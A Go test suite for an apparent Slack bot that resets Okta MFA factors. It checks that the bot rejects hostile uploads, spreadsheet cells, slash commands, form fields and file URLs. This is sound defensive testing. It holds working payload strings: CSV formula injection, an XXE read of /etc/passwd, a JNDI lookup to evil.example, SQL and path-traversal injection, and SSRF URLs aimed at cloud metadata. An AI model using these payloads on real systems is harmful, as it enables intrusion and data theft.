package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// answered waits until somebody reads the words: the person privately, or everybody in a thread.
func (s *sandboxRun) answered(user, what string, since int, words ...string) {
	s.tb.Helper()
	s.await(fmt.Sprintf("%s to be answered %q", what, words), func() bool {
		for _, m := range s.messages(user)[since:] {
			all, found := m.plain(), m.BotID != ""
			for _, w := range words {
				found = found && strings.Contains(all, w)
			}
			if found {
				return true
			}
		}
		return false
	})
}

// plain is all of a message as it is read, without JSON's escapes.
func (m message) plain() string {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	var blocks any
	_ = json.Unmarshal(m.Blocks, &blocks)
	_ = e.Encode(blocks)
	return m.Text + "\n" + b.String()
}

// live are what comes alive in Slack where it is not escaped.
func live() []string {
	return []string{"<!channel>", "<!here>", "<!everyone>", "<https://evil", "<http://evil", "<@U_EVIL", "<mailto:evil", "<!subteam^S_EVIL"}
}

// checkInert looks through everything that everybody and some people see.
func (s *sandboxRun) checkInert(users ...string) {
	s.tb.Helper()
	for _, user := range users {
		for _, m := range s.messages(user) {
			if m.BotID == "" {
				continue
			}
			var walk func(any)
			walk = func(v any) {
				switch v := v.(type) {
				case map[string]any:
					text, _ := v["text"].(string)
					if v["type"] == "mrkdwn" {
						if v["verbatim"] != true {
							s.tb.Errorf("not verbatim: %q", text)
						}
						for _, l := range live() {
							if strings.Contains(text, l) {
								s.tb.Errorf("%s comes alive in %q", l, text)
							}
						}
					}
					for _, inner := range v {
						walk(inner)
					}
				case []any:
					for _, inner := range v {
						walk(inner)
					}
				}
			}
			var blocks any
			_ = json.Unmarshal(m.Blocks, &blocks)
			walk(blocks)
			for _, l := range append(live(), "@here", "https://evil") {
				if strings.Contains(m.Text, l) {
					s.tb.Errorf("%s comes alive in the fallback %q", l, m.Text)
				}
			}
			if strings.ContainsAny(m.plain(), "\u202e\u202d\u2066") {
				s.tb.Errorf("a mark turns the text around: %q", m.plain())
			}
		}
	}
}

// hostileFiles are uploads that are refused, each with words that say why.
func hostileFiles() map[string]struct{ name, content, words string } {
	big := "login\n" + strings.Repeat("someone@example.com\n", 21<<20/20+1)
	return map[string]struct{ name, content, words string }{
		"zip as CSV":              {"a.csv", "PK\x03\x04\x14\x00\x06\x00" + strings.Repeat("\x00", 40), "workbook"},
		"empty zip as CSV":        {"a.csv", "PK\x05\x06" + strings.Repeat("\x00", 18), "archive"},
		"gzip as CSV":             {"a.csv", "\x1f\x8b\x08\x00\x00\x00\x00\x00", "gzip"},
		"7-Zip as TSV":            {"a.tsv", "7z\xbc\xaf\x27\x1c\x00\x04", "7-Zip"},
		"old Excel as CSV":        {"a.csv", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 40), "Excel"},
		"PDF as text":             {"a.txt", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"},
		"picture as CSV":          {"a.csv", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "picture"},
		"program as CSV":          {"a.csv", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\xff\xff\x00\x00", "text"},
		"HTML as CSV":             {"a.csv", "<!doctype html><html><body>login,email</body></html>", "web page"},
		"HTML with a mark":        {"a.csv", "\xef\xbb\xbf \n<HTML><script>alert(1)</script>", "web page"},
		"sign-in page":            {"a.csv", "<html><head><title>Sign in | Slack</title></head>", "web page"},
		"XML":                     {"a.csv", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "XML"},
		"JSON":                    {"a.txt", "[{\"login\":\"ana@example.com\"}]", "JSON"},
		"RTF":                     {"a.txt", "{\\rtf1\\ansi ana@example.com}", "Rich Text"},
		"header and nothing else": {"a.csv", "userId\r\n", "no rows"},
		"only blanks":             {"a.csv", " \n\t\n\r\n ", "empty"},
		"quote that never closes": {"a.csv", "login\n\"ana@example.com\nbob@example.com\n" + strings.Repeat("x@example.com\n", 50), "quotation mark"},
		"column of no users":      {"a.csv", "name,team\nAna,Sales\n", "column"},
		"a row without end":       {"a.csv", "login\n" + strings.Repeat("x", 2<<20), "long"},
		"bytes that are no text":  {"a.csv", "login\nana@example.com\n\x00\x01\x02\x03\x04\x05\x06\x07", "text"},
		"too many users":          {"a.csv", manyUsers(10001), "10"},
		"too many bytes":          {"a.csv", big, "20 MiB"},
		"name that calls all":     {"<!channel> @here.csv", "name,team\nAna,Sales\n", "column"},
		"name that turns around":  {"list\u202evsc.csv", "name\nAna\n", "column"},
		"name of 240 characters":  {strings.Repeat("n", 236) + ".csv", "name\nAna\n", "column"},
		"name that is a link":     {"<https://evil.example|list>.csv", "name\nAna\n", "column"},
		"spreadsheet":             {"book.xlsx", "PK\x03\x04", "CSV UTF-8"},
		"archive":                 {"<!here>.zip", "PK\x03\x04", "CSV UTF-8"},
		"macro sheet":             {"`book`*.xlsm", "PK\x03\x04", "CSV UTF-8"},
	}
}

func TestHostile_files(t *testing.T) {
	t.Parallel() // it waits for most of its time
	s := mustSandbox(t, "--users", "20", "--rate-limit", "6000")
	for name, c := range hostileFiles() {
		since := len(s.messages("U_REQUESTER"))
		s.upload("U_REQUESTER", "lost <!channel> @here <https://evil.example|phones>", c.name, []byte(c.content))
		s.answered("U_REQUESTER", name, since, c.words)
	}
	s.checkInert("U_REQUESTER", "U_APPROVER1")
	if n := s.reset(); n != 0 {
		t.Errorf("%d users were reset", n)
	}
}

// hostileCells are cells of a roster, each with the reason for which its row is passed over.
func hostileCells() map[string]string {
	return map[string]string{
		`=HYPERLINK("https://evil.example","ana@example.com")`: "invalid_row",
		"=cmd|' /C calc'!A0":                        "invalid_row",
		"+1+cmd|' /C calc'!A0":                      "invalid_row",
		"-2+3+cmd|' /C calc'!A0":                    "invalid_row",
		"@SUM(1+1)*cmd|' /C calc'!A0":               "invalid_row",
		"\t=1+1":                                    "invalid_row",
		"<!channel>":                                "invalid_row",
		"<@U_EVIL>":                                 "invalid_row",
		"<https://evil.example|ana>":                "invalid_row",
		"00u../../lifecycle/deactivate":             "invalid_row",
		"00uX/lifecycle/deactivate?x=":              "invalid_row",
		"00u%2e%2e%2flifecycle%2fdeactivate":        "invalid_row",
		`ana@example.com" or id pr or id eq "`:      "invalid_row",
		`ana@example.com" or status eq "ACTIVE`:     "invalid_row",
		"*":                                         "invalid_row",
		"%":                                         "invalid_row",
		"../../../etc/passwd":                       "invalid_row",
		"'; DROP TABLE users; --":                   "invalid_row",
		"${jndi:ldap://evil.example}":               "invalid_row",
		"{{7*7}}":                                   "invalid_row",
		"ana@example.com\nbob@example.com":          "invalid_row",
		"ana@example.com,bob@example.com":           "invalid_row",
		"ana@exam\u202eple.com":                     "invalid_row",
		"ana\u200b@example.com":                     "invalid_row",
		"\u0430na@example.com":                      "not_found",
		"ana@example.com.evil.example":              "not_found",
		"null":                                      "invalid_row",
		"00u00000000000000000":                      "not_found",
		strings.Repeat("a", 5000) + "@example.com":  "invalid_row",
		"\U0001f600":                                "invalid_row",
		"<mailto:evil@example.com|ana@example.com>": "invalid_row",
	}
}

func TestHostile_cells(t *testing.T) {
	t.Parallel()
	s := mustSandbox(t, "--users", "20", "--rate-limit", "6000")
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"login"})
	_ = w.Write([]string{"ana@example.com"})
	for cell := range hostileCells() {
		_ = w.Write([]string{cell})
	}
	w.Flush()
	s.upload("U_REQUESTER", "lost phones", "cells.csv", b.Bytes())
	pending := s.awaitPending(1)
	file := s.awaitMessage("the plan file", func(m message) bool { return len(m.Files) == 1 && m.Files[0].Name == "FR-1-plan.csv" })
	rows, err := csv.NewReader(bytes.NewReader(s.get("/sandbox/files/" + file.Files[0].ID))).ReadAll()
	if err != nil || len(rows) != len(hostileCells())+2 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	inputs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[2:] {
		input := inputs[i+2][0]
		if want := hostileCells()[input]; row[5] != "skip" || row[6] != want || row[7] == "" {
			t.Errorf("%.60q became %.200q, want %s with words", input, row, want)
		}
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r") {
				t.Errorf("a formula: %.80q", cell)
			}
		}
	}
	s.click("U_APPROVER1", pending, "approve")
	_, _, results := outcomes(t, s.awaitResults(1))
	checkResets(t, s, results)
	s.checkInert("U_REQUESTER", "U_APPROVER1")
}

func TestHostile_commands(t *testing.T) {
	t.Parallel()
	s := mustSandbox(t, "--users", "20", "--rate-limit", "6000")
	for text, words := range map[string]string{
		"ana@example.com because " + strings.Repeat("x", 1001):         "1000 is the limit",
		"<!channel> because lost phone":                                "I don't know",
		"<!subteam^S_EVIL|@all> because lost phone":                    "reset a Slack user group",
		"<mailto:evil@example.com|ana@example.com> because lost phone": "I don't know",
		"<https://evil.example|ana@example.com> because lost phone":    "I don't know",
		"@everyone because lost phone":                                 "isn't a mention",
		"ana@exam\u202eple.com because lost phone":                     "planning 1 user",
		"00u../../lifecycle/deactivate because lost phone":             "I don't know",
		`ana@example.com" or id pr because lost phone`:                 "don't understand",
		"group: because lost phone":                                    "has no value",
		"search: because lost phone":                                   "has no value",
		`group:"A" group:"B" because lost phone`:                       "can't be mixed",
		"ana@example.com factors:<!channel> because lost phone":        "has no value",
		"ana@example.com factors:everything; because lost phone":       "isn't a factor",
		"ana@example.com sessions:all because lost phone":              "sessions:revoke",
		"status FR-99999999999999999999999":                            "Which request",
		"status ../../FR-1":                                            "Which request",
		"status <!here>":                                               "Which request",
		"cancel FR-1; drop":                                            "Which request",
		"history <!everyone>":                                          "history 30d",
		"history 99999d":                                               "history 30d",
		"receipt FR-0":                                                 "Which request",
		"freeze <!channel>":                                            "takes no names",
		strings.Repeat("evil ", 2000):                                  "I don't know",
		strings.Repeat("\u202e", 50) + "reset":                         "Nobody is named",
		"because <!channel> nobody is named":                           "Nobody is named",
		"ana@example.com becuase https://evil.example":                 "don't understand",
		"\x00\x1b[31mana":                                              "I don't know",
		"<script>alert(1)</script>":                                    "I don't know",
	} {
		if got := s.private("U_REQUESTER", "/factor-reset "+text); !strings.Contains(got, words) {
			t.Errorf("%.80q: %s", text, got)
		}
	}
	// These open a request; whatever is wrong is told in the channel, and nothing comes alive there.
	for text, words := range map[string]string{
		`group:"<!channel> @here" because <https://evil.example|lost> @here`: "no group",
		`search:profile.evil") or (id pr because <!here>`:                    "search",
		"ana@example.com because <!channel> <@U_EVIL> *now* `x` \u202eevil":  "needed",
	} {
		since := len(s.messages("U_REQUESTER"))
		s.command("U_REQUESTER", "/factor-reset "+text)
		s.answered("U_REQUESTER", text, since, words)
	}
	s.checkInert("U_REQUESTER", "U_APPROVER1")
}

func TestHostile_forms(t *testing.T) {
	t.Parallel()
	s := mustSandbox(t, "--users", "20", "--rate-limit", "6000")
	script := s.attach("U_REQUESTER", "list.csv.exe", []byte("MZ"))
	for name, c := range map[string]struct {
		enter answers
		field string
		words string
	}{
		"calls everybody":      {answers{"list": "<!channel>", "reason": "x"}, "list", "I don't know"},
		"a path in the list":   {answers{"list": "00u../../x", "reason": "x"}, "list", "I don't know"},
		"a reason in the list": {answers{"list": "ana@example.com because y", "reason": "x"}, "list", "fields of their own"},
		"blanks":               {answers{"list": " \n\t ", "reason": "x"}, "list", "at least one user"},
		"blank reason":         {answers{"list": "ana@example.com", "reason": " \n "}, "reason", "Add a reason"},
		"an unknown factor":    {answers{"list": "ana@example.com", "reason": "x", "factors": []string{"<!here>"}}, "factors", "isn't a factor"},
		"before all time":      {answers{"list": "ana@example.com", "reason": "x", "when": -5}, "when", "past"},
		"an open quote":        {answers{"search": `status eq "ACTIVE`, "reason": "x"}, "search", "isn't closed"},
		"no group":             {answers{"group": ` "" `, "reason": "x"}, "group", "as Okta shows it"},
		"a program":            {answers{"file": []string{script}, "reason": "x"}, "file", "not a file of the kind"},
	} {
		if wrong := s.try("U_REQUESTER", s.wholeForm("U_REQUESTER"), c.enter); !strings.Contains(fmt.Sprint(wrong[c.field]), c.words) {
			t.Errorf("%s: %v", name, wrong)
		}
	}
	s.command("U_REQUESTER", "/factor-reset ana@example.com because lost phone")
	pending := s.awaitPending(1)
	for value, words := range map[string]string{
		"": "out of date", "FR-1": "out of date", "FR-1:xyz": "out of date", "FR-1:-": "plan has changed", "FR-99:-": "no such request",
		"FR-1:000000000000": "plan has changed", strings.Repeat("9", 300): "out of date", "../FR-1:-": "out of date",
	} {
		since := len(s.messages("U_APPROVER1"))
		s.post("/sandbox/action", map[string]any{
			"user": "U_APPROVER1", "channel": "C_FACTORS", "message_ts": pending.TS, "action_id": "approve", "value": value,
		})
		if value != "" { // the sandbox presses the button's own
			s.answered("U_APPROVER1", fmt.Sprintf("the value %.40q", value), since, words)
		}
	}
	for user, words := range map[string]string{"U_STRANGER": "other companies", "U_GUEST": "Guests"} {
		since := len(s.messages(user))
		s.click(user, pending, "deny")
		s.answered(user, user, since, words)
	}
	s.checkInert("U_REQUESTER", "U_APPROVER1")
}

// An event whose file lies elsewhere: the token never goes there.
func TestHostile_file_addresses(t *testing.T) {
	t.Parallel()
	s := mustSandbox(t, "--users", "20", "--rate-limit", "6000")
	for i, address := range []string{
		"https://evil.example/list.csv", "http://slack.com/list.csv", "https://slack.com.evil.example/list.csv",
		"https://files.slack.com@evil.example/list.csv", "https://evil.example#files.slack.com", "//evil.example/list.csv",
		"file:///etc/passwd", "data:text/csv,login%0Aana@example.com", "http://127.0.0.1:1/list.csv", "http://169.254.169.254/latest/meta-data/", "", "\u202e",
	} {
		ts := fmt.Sprintf("1795470%03d.000100", i)
		frame := map[string]any{
			"type": "events_api", "envelope_id": fmt.Sprintf("e-%d", i), "payload": map[string]any{
				"type": "event_callback", "event": map[string]any{
					"type": "message", "subtype": "file_share", "channel": "C_FACTORS", "user": "U_REQUESTER", "ts": ts, "text": "lost phones",
					"files": []any{map[string]any{"id": "F_NONE", "name": "list.csv", "size": 10, "mode": "hosted", "url_private": address}},
				},
			},
		}
		since := len(s.messages("U_REQUESTER"))
		s.post("/sandbox/set", map[string]any{"slack_frame": frame})
		s.answered("U_REQUESTER", address, since, fmt.Sprintf("FR-%d", i+1), "couldn't get the file from Slack")
	}
}
